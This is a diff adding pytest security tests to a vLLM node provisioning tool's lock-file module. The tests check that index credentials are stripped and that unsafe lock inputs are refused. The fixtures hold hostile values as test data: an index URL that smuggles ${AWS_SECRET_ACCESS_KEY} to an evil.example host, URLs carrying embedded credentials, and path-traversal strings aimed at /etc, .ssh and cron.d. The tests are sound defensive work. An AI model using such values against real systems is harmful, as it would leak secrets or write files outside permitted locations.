@@ -187,6 +187,7 @@ def test_node_stack_reads_the_probe_and_flags_an_unsupported_libc() -> None:
 
 
 def _inventory(tmp_path: Path):  # type: ignore[no-untyped-def]
+    tmp_path.mkdir(parents=True, exist_ok=True)
     (tmp_path / "stack.lock.txt").write_text(LOCK)
     path = tmp_path / "inventory.yml"
     path.write_text("""
@@ -308,3 +309,78 @@ def test_a_node_gets_only_the_pins_with_their_hashes() -> None:
     assert "--find-links" not in text and "#" not in text
     assert stack_lock.parse_lock(text).versions() == lock.versions()
     assert len(text.splitlines()) == len(lock.pins)
+
+
+# --- a lock cannot leak (docs/security.md, "Stack locks") ----------------------------------
+
+def _uv_ok(argv: list[str], **_: object):  # type: ignore[no-untyped-def]
+    import subprocess
+
+    return subprocess.CompletedProcess(argv, 0, f"idna==3.7 \\\n    --hash=sha256:{IDNA}\n", "")
+
+
+def test_a_written_lock_never_holds_the_index_credentials(tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    requirements = tmp_path / "requirements.in"
+    requirements.write_text("--index-url https://alice:s3cr3t-token@pypi.corp.example/simple\n"
+                            "--extra-index-url https://mirror.example/simple\nidna==3.7\n")
+    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
+    text = stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2",
+                                   runner=_uv_ok)
+    assert "s3cr3t" not in text and "alice" not in text
+    assert stack_lock.parse_lock(text).indexes == (
+        ("--index-url", "https://pypi.corp.example/simple"),
+        ("--extra-index-url", "https://mirror.example/simple"))
+    assert "# credentials: removed" in text
+
+
+def test_requirements_with_environment_expansion_are_refused(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    requirements = tmp_path / "requirements.in"
+    requirements.write_text("--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n"
+                            "idna==3.7\n")
+    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
+    with pytest.raises(ProvisionError, match=r"pip expands"):
+        stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2", runner=_uv_ok)
+
+
+@pytest.mark.parametrize(("line", "says"), [
+    ("--index-url https://evil.example/${HOME}/simple", "pip expands"),
+    ("--extra-index-url=https://u:p@mirror.example/simple", "holds credentials"),
+    ("--find-links https://token@files.example/", "holds credentials"),
+])
+def test_a_lock_with_expansion_or_credentials_is_refused(line: str, says: str) -> None:
+    with pytest.raises(ProvisionError, match=says):
+        stack_lock.parse_lock(LOCK + line + "\n", "stack.lock.txt")
+
+
+@pytest.mark.parametrize(("key", "value"), [
+    ("platform", "../../../../etc"), ("platform", "x86_64-manylinux_2_36/../../x"),
+    ("python", "3.11.2/../../.ssh"), ("python", "latest")])
+def test_a_lock_header_that_is_not_a_target_is_refused(key: str, value: str) -> None:
+    text = LOCK.replace("# platform: x86_64-manylinux_2_36" if key == "platform"
+                        else "# python: 3.11.2", f"# {key}: {value}")
+    with pytest.raises(ProvisionError, match=f"{key} header"):
+        stack_lock.parse_lock(text, "stack.lock.txt")
+
+
+@pytest.mark.parametrize("value", ["/etc/cron.d/x", "../outside.txt", "sub/../../out.txt", "."])
+def test_a_lock_path_outside_the_inventory_folder_is_refused(tmp_path: Path, value: str) -> None:
+    inventory = _inventory(tmp_path / "inv")
+    replica = inventory.replicas[0]
+    from dataclasses import replace
+
+    odd = replace(replica, vars={**replica.vars, "vllm_stack_lock": value})
+    with pytest.raises(ProvisionError, match="inside the inventory's folder"):
+        stack_lock.lock_path(inventory, odd)
+
+
+def test_a_lock_path_through_a_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
+    inventory = _inventory(tmp_path / "inv")
+    (tmp_path / "inv" / "out").symlink_to(tmp_path)
+    from dataclasses import replace
+
+    replica = inventory.replicas[0]
+    odd = replace(replica, vars={**replica.vars, "vllm_stack_lock": "out/stack.lock.txt"})
+    with pytest.raises(ProvisionError, match="inside the inventory's folder"):
+        stack_lock.lock_path(inventory, odd)
